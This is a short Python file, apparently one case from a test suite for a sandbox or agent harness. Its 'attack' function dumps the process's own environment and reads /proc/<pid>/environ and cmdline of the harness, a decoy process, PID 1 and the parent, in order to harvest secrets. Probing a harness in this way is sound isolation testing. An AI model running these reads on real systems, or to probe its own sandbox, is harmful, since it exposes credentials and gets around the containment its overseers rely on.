"""Read the harness's environment: our own env, and /proc/<pid>/environ of the harness and others."""
import os


def attack(ctx):
    got = [dict(os.environ)]
    for pid in (ctx["harness_pid"], ctx["decoy_pid"], 1, os.getppid()):
        for name in ("environ", "cmdline"):
            try:
                got.append(open(f"/proc/{pid}/{name}", "rb").read().decode("latin-1"))
            except OSError as exc:
                got.append(repr(exc))
    print(got)
    return got
